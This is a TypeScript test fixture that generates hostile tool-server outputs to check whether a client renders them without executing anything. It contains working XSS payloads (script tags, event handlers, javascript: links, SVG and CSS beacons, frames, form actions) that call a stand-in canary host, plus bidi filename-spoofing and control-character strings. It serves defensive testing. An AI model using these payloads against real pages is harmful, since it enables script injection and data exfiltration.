/**
 * Tool results a careless or hostile server might return, each trying to run a script, style the
 * page, or send a request out: to `canary`, which counts what reaches it.
 */
export function hostileResults(canary: string): Record<string, string> {
  const out = (what: string) => `${canary}/${what}`;
  return {
    script: `<script>fetch('${out('script')}')</script></pre><script>document.title='pwned'</script>`,
    handlers: `<img src=x onerror="fetch('${out('onerror')}')"><body onload="fetch('${out('onload')}')"><details open ontoggle="fetch('${out('ontoggle')}')">`,
    links: `<a href="javascript:fetch('${out('javascript')}')">click</a> <a href="${out('link')}">out</a> [md](javascript:alert(1))`,
    svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${out('svg')}')"><script>fetch('${out('svg-script')}')</script><image href="${out('svg-image')}"/></svg>`,
    css: `<style>body{display:none;background:url(${out('style')})}</style><link rel="stylesheet" href="${out('sheet')}"><div style="background:url(${out('inline-style')})">styled</div>`,
    frames: `<iframe src="${out('iframe')}"></iframe><object data="${out('object')}"></object><embed src="${out('embed')}"><meta http-equiv="refresh" content="0;url=${out('refresh')}"><base href="${out('base')}/">`,
    forms: `<form action="${out('form')}"><button formaction="${out('formaction')}">go</button></form><input autofocus onfocus="fetch('${out('focus')}')">`,
    bidi: `invoice\u202Efdp.exe and \u2066isolated\u2069 \u0001\u001b[31mred\u001b[0m \u200Bhidden\u2028line \ufeffbom \u061Carabic`,
    json: JSON.stringify({
      '<script>': `<img src=x onerror="fetch('${out('json')}')">`,
      nested: { '\u202Ekey': ['</details><script>x</script>'] },
    }),
    csv: `name,payload\n"<script>fetch('${out('csv')}')</script>","<img src=x onerror=""fetch('${out('csv-img')}')"">"\nplain,row`,
    // A 10 MB one-liner with its hostile part in the middle of its page.
    oneLiner: `${'A'.repeat(5_000_000)}<script>fetch('${out('one-liner')}')</script>${'B'.repeat(5_000_000)}`,
  };
}
